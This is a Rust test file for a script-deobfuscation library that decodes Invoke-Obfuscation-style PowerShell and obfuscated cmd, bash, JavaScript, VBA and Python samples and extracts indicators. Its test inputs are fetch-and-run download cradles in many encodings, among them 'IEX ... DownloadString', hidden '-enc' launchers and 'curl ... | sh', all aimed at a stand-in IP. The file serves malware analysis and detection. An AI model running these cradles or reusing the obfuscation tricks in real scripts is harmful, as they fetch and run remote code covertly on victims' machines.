//! Invoke-Obfuscation token, string, encoding and launcher families, and the other
//! languages' common tricks, each peeled to a readable form through the public API.

use base64::Engine;
use bulwark_scripts::{AnalyzeOptions, IocKind, Language, analyze};

const URL: &str = "http://198.51.100.9/a";

fn all_text(s: &str) -> (String, Vec<String>) {
    let a = analyze(s, &AnalyzeOptions::default());
    let urls = a.ioc_values(IocKind::Url).into_iter().map(str::to_string).collect();
    // Blob payloads are kept apart from the script layers: read the deepest text.
    (a.deepest().to_string(), urls)
}

fn utf16_b64(s: &str) -> String {
    let b: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    base64::engine::general_purpose::STANDARD.encode(b)
}

#[track_caller]
fn assert_recovers(obfuscated: &str, needle: &str) {
    let (f, urls) = all_text(obfuscated);
    assert!(f.contains(needle), "final layer lacks {needle:?}:\n{f}");
    if needle.contains(URL) {
        assert!(urls.iter().any(|u| u == URL), "URL not extracted: {urls:?}");
    }
}

const CRADLE: &str = "(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')";

#[test]
fn token_ticks_and_case() {
    assert_recovers(
        "I`Nv`OKe-eX`pREs`sIoN (n`e`w-Obj`ecT Net.WebClient).DownloadString('ht'+'tp://198.51.100.9/a')",
        "INvOKe-eXpREssIoN (new-ObjecT Net.WebClient).DownloadString('http://198.51.100.9/a')",
    );
}

#[test]
fn string_concatenation_reorder_and_reverse() {
    assert_recovers(
        "IEX ('(New-Object Net.We'+'bClient).DownloadString(''http://198.51.100.9/a'')')",
        CRADLE,
    );
    assert_recovers(
        "IEX (\"{1}{0}\" -f 'Client).DownloadString(''http://198.51.100.9/a'')','(New-Object Net.Web')",
        CRADLE,
    );
    let rev: String = CRADLE.chars().rev().collect::<String>().replace('\'', "''");
    assert_recovers(&format!("$r = '{rev}'; IEX ($r[-1..-($r.Length)] -join '')"), CRADLE);
    assert_recovers(
        &format!(
            "IEX ( ([regex]::Matches('{rev}','.','RightToLeft') | ForEach {{$_.value}}) -join '')"
        ),
        CRADLE,
    );
}

#[test]
fn encoding_ascii_hex_octal_binary_bxor() {
    let codes = |f: &dyn Fn(u32) -> String, sep: &str| -> String {
        CRADLE.chars().map(|c| f(c as u32)).collect::<Vec<_>>().join(sep)
    };
    let ascii = codes(&|c| c.to_string(), ",");
    assert_recovers(&format!("IEX (-join (({ascii}) | % {{[char]$_}}))"), CRADLE);
    let hex = codes(&|c| format!("{c:x}"), "x");
    assert_recovers(
        &format!(
            "-JOIN ('{hex}' -SPliT 'x' | ? {{$_}} | FOrEaCh-OBJect {{ [char]([convert]::ToInt16([string]$_, 16)) }})|IEX"
        ),
        CRADLE,
    );
    let oct = codes(&|c| format!("{c:o}"), ",");
    assert_recovers(
        &format!(
            "IEX ([string]::Join('', ('{oct}'.Split(',') | % {{ [char][convert]::ToInt16($_, 8) }})))"
        ),
        CRADLE,
    );
    let bin = codes(&|c| format!("{c:b}"), "_");
    assert_recovers(
        &format!(
            "('{bin}' -split '_' | %{{ [char][convert]::ToInt32($_, 2) }}) -join '' | .( $ShellId[1]+$ShellId[13]+'x')"
        ),
        CRADLE,
    );
    let xor = codes(&|c| format!("{:x}", c ^ 0x52), "&");
    assert_recovers(
        &format!(
            "-jOIN ( '{xor}' -SPliT '&' | FOREacH-ObjecT {{ [cHaR]([CONVERT]::toINT16(([StRinG]$_ ), 16) -bxor 0x52) }})|&( $env:comspec[4,15,25]-join'')"
        ),
        CRADLE,
    );
}

#[test]
fn compressed_and_encoded_launchers() {
    use std::io::Write;
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(CRADLE.as_bytes()).unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(e.finish().unwrap());
    assert_recovers(
        &format!(
            ".((VARIAbLE '*mDr*').NAme[3,11,2]-JOin'')(NEW-oBJecT Io.StReAmREaDER((NEW-oBJecT IO.compRESsION.DEflaTEStREam([IO.MeMOrysTreaM][cONVERt]::fROMBaSE64stRiNG('{b64}'), [io.cOMPrEssIoN.cOMpREsSIOnMOde]::DECOMPresS)), [TeXT.ENCoDiNg]::ASCii)).reADtoEnD()"
        ),
        CRADLE,
    );
    assert_recovers(&format!("cmd /c \"powershell -nop -w 1 -enc {}\"", utf16_b64(CRADLE)), CRADLE);
    assert_recovers(
        &format!("C:\\WINDOWS\\system32\\cmd.exe /c po^wer^shell ^-e^c {}", utf16_b64(CRADLE)),
        CRADLE,
    );
    assert_recovers("powershell -nop -c \"iex ('Write-'+'Host hi')\"", "Write-Host hi");
}

#[test]
fn embedded_blobs_become_payloads_of_the_final_layer() {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(CRADLE.as_bytes()).unwrap();
    let gz = base64::engine::general_purpose::STANDARD.encode(e.finish().unwrap());
    let script = format!(
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gz}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"
    );
    // Launched as `powershell -enc`: the decoded launcher is the final layer, the gzip blob a
    // payload with its own chain, and its URL still an indicator.
    let a = analyze(
        &format!("powershell -w hidden -enc {}", utf16_b64(&script)),
        &AnalyzeOptions::default(),
    );
    assert_eq!(a.layers.len(), 2, "{:?}", a.layers);
    assert_eq!(a.final_layer(), script);
    assert_eq!(a.payloads.len(), 1);
    let p = &a.payloads[0];
    assert_eq!(p.found_in, 1);
    assert!(p.technique.contains("gzip"), "{}", p.technique);
    assert_eq!(p.layers[0].depth, 2);
    assert_eq!(p.final_text(), CRADLE);
    let url = a.iocs.iter().find(|i| i.kind == IocKind::Url && i.value == URL).unwrap();
    assert_eq!(url.layer, 2);
    assert!(a.behaviours.iter().any(|b| b.attack_technique == "T1105"));
    // A child PowerShell started by the decoded script is a payload too.
    let child = format!("PowerShell -ExecutionPolicy bypass -command {CRADLE}");
    let a = analyze(&format!("powershell -enc {}", utf16_b64(&child)), &AnalyzeOptions::default());
    assert_eq!(a.final_layer(), child);
    assert_eq!(a.deepest(), CRADLE);
    let text = bulwark_scripts::render_text(&a);
    assert!(text.contains("## Payload 1 (decoded from layer 1)"), "{text}");
}

#[test]
fn variable_tracking_forms() {
    assert_recovers(
        "Set-Item Variable:/q ('Write-'+'Host x'); IEX (Get-Variable q -ValueOnly)",
        "Write-Host x",
    );
    assert_recovers("SV q 'Write-Host y'; IEX (GV q).Value", "Write-Host y");
    assert_recovers("$a='Wri';$a+='te-Host z';Invoke-Expression $a", "Write-Host z");
}

#[test]
fn other_languages() {
    let cases: [(&str, Language, &str); 6] = [
        (
            "@echo off\r\nset a=pow\r\nset b=ershell\r\n%a%%b% -c whoami\r\n",
            Language::Cmd,
            "powershell -c whoami",
        ),
        (
            "#!/bin/sh\necho Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L2EgfCBzaA== | base64 -d | sh\n",
            Language::Bash,
            "curl http://198.51.100.9/a | sh",
        ),
        (
            "var s = unescape('%68%74%74%70%3A%2F%2F198.51.100.9%2Fa'); eval('x=' + '1');",
            Language::JavaScript,
            "http://198.51.100.9/a",
        ),
        (
            "eval(atob('ZmV0Y2goImh0dHA6Ly8xOTguNTEuMTAwLjkvYSIp'))",
            Language::JavaScript,
            "fetch(\"http://198.51.100.9/a\")",
        ),
        (
            "Sub AutoOpen()\nExecute Chr(77) & Chr(115) & \"gBox 1\"\nEnd Sub\n",
            Language::Vba,
            "MsgBox 1",
        ),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", Language::Python, "print(1)"),
    ];
    for (src, lang, needle) in cases {
        let a = analyze(src, &AnalyzeOptions::default());
        assert_eq!(a.language, lang, "{src}");
        assert!(a.deepest().contains(needle), "{src}\n=> {}", a.deepest());
    }
}

#[test]
fn secure_string_with_embedded_key() {
    use aes::cipher::{BlockEncryptMut, KeyIvInit, block_padding::Pkcs7};
    let key: Vec<u8> = (1..=16).collect();
    let iv = [7u8; 16];
    let plain: Vec<u8> = CRADLE.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let ct = cbc::Encryptor::<aes::Aes128>::new_from_slices(&key, &iv)
        .unwrap()
        .encrypt_padded_vec_mut::<Pkcs7>(&plain);
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let hex: String = ct.iter().map(|b| format!("{b:02x}")).collect();
    let inner = format!("2|{}|{hex}", b64(&iv));
    let blob = format!("76492d1116743f0423413b16050a5345{}", utf16_b64(&inner));
    let script = format!(
        "IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('{blob}' | ConvertTo-SecureString -Key (1..16)))))"
    );
    assert_recovers(&script, CRADLE);
}
